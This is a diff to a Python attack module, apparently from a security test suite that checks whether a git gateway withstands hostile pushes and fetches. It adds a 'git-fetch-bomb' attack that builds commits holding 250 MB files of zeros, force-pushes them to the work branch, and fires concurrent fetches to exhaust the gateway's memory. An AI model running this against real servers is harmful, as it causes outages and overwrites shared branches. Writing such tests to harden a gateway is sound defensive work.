@@ -1,5 +1,6 @@
 """Attacks through git: on refs that are not the work branch's, and on repositories that are not the run's."""
 import base64
+import concurrent.futures
 import os
 import subprocess
 import tempfile
@@ -11,6 +12,11 @@ from frame import Refused, Sent, Untried, agent_token, attack, base_url, exchang
 # Words of a push that was refused for what it is: by git on the gateway, ref by ref, and by the gateway to a step that may
 # not push at all. Any other failure shows nothing: the gateway was away, too busy, or its disk was full.
 REFUSALS = ("a hidden ref", "deletion prohibited", "this step may not push", "returned error: 403")
+# Two files of zeros, each a thousandth when it is packed. Whoever looks for a delta between them holds both in memory: of
+# so many fetches at once that is twice what a gateway has.
+BOMB_BYTES = 250 << 20
+BOMB_FETCHES = 4
+STREAMED = ("-c", "core.bigFileThreshold=1m")
 
 
 def repository(parameters):
@@ -113,3 +119,49 @@ def refs(parameters):
     if found:
         return found[0]
     raise Refused("%d refs" % len(text.splitlines()))
+
+
+def zeros(tree, parent, number):
+    """A commit on top of `parent` with a large file, which is nowhere unpacked as a whole."""
+    head = "commit refs/heads/bomb\ncommitter hostile <hostile@example.invalid> %d +0000\ndata 4\nbomb\nfrom %s\n"
+    with subprocess.Popen(["git", *STREAMED, "-c", "fastimport.unpackLimit=1", "fast-import", "--quiet"], cwd=tree,
+                          stdin=subprocess.PIPE) as importer:
+        importer.stdin.write((head % (number, parent)).encode())
+        importer.stdin.write(b"M 100644 inline zeros\ndata %d\n%d" % (BOMB_BYTES + 1, number))
+        for _ in range(BOMB_BYTES >> 20):
+            importer.stdin.write(bytes(1 << 20))
+        importer.stdin.write(b"\n")
+    if importer.returncode != 0:
+        raise Untried("no bomb: git fast-import ended with %d" % importer.returncode)
+
+
+@attack("git-fetch-bomb", alone=True)
+def fetch_bomb(parameters):
+    """Fetches back, several times at once, what the gateway can pack anew only with much more memory than it has."""
+    if parameters.get("control"):
+        raise Untried("the gateway without rules packs nothing")
+    branch = subprocess.run(["git", "branch", "--show-current"], capture_output=True, text=True).stdout.strip()
+    with tempfile.TemporaryDirectory(dir="/tmp") as folder:
+        tree, commit = clone(parameters, folder)
+        # One behind the other, so that each comes in a pack of its own and none as a delta.
+        for number, parent in ((1, commit), (2, "refs/heads/bomb^0")):
+            zeros(tree, parent, number)
+            code, text = run(parameters, tree, *STREAMED, "push", "--quiet", "--force", repository(parameters),
+                             "bomb:refs/heads/" + branch)
+            if code != 0:
+                raise Refused(text) if "returned error: 403" in text else Untried("no bomb: " + text)
+        with concurrent.futures.ThreadPoolExecutor(BOMB_FETCHES) as at_once:
+            fetched = list(at_once.map(lambda number: fetch(parameters, folder, branch, number), range(BOMB_FETCHES)))
+        # The other attacks of this step clone it too.
+        run(parameters, tree, "push", "--quiet", "--force", repository(parameters), "HEAD~1:refs/heads/" + branch)
+        # The gateway has one memory limit with its git: it is there, or it is gone.
+        code, text = run(parameters, folder, "clone", "--quiet", repository(parameters), "afterwards")
+        if code != 0:
+            return "no clone behind the fetches: " + text
+        raise Refused("%d of %d fetches brought it" % (fetched.count(0), BOMB_FETCHES))
+
+
+def fetch(parameters, folder, branch, number):
+    bare = os.path.join(folder, "bare-%d" % number)
+    subprocess.run(["git", "init", "--quiet", "--bare", bare], check=True)
+    return run(parameters, bare, *STREAMED, "fetch", "--quiet", repository(parameters), branch)[0]
